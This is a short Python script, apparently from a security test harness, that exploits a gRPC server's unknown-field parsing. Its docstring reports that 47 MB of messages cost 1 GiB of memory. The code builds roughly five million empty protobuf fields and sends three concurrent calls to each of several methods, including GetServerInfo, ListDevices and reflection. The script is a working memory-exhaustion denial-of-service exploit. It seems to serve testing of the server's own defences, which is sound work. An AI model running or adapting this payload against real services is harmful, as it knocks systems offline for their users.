"""Messages of fields that no type has: a parser keeps each, however short. Two bytes of wire are an object of some
sixty.

GetServerInfo, ListDevices, GetStatistics and reflection let gRPC parse the whole of up to --max-message-bytes; the
other methods look at 4 MiB at most. Found: 47 MB of GetServerInfo take 1 GiB.
"""

import http2
import wire
from attack import Attack, Target, run

# Empty strings, and empty groups inside each other.
EMPTY_STRINGS = wire.field(2000, b"") * ((15 << 20) // 3)
METHODS = [
    "GetServerInfo",
    "ListDevices",
    "GetStatistics",
    http2.REFLECTION,
    http2.HEALTH_CHECK,
    "ListOperators",
    "GetWorkspaceSize",
]


def send(method: str):
    def attack(target: Target) -> None:
        connection = target.connect(target.index)
        calls = []
        for _ in range(3):
            calls.append(connection.start(method, EMPTY_STRINGS))
        connection.poll_until(lambda: all(call.ended for call in calls), 2.0)
        for call in calls:
            connection.forget(call)

    return attack


def in_turn(target: Target) -> None:
    for method in METHODS:
        send(method)(target)


if __name__ == "__main__":
    run(Attack([in_turn, in_turn]))
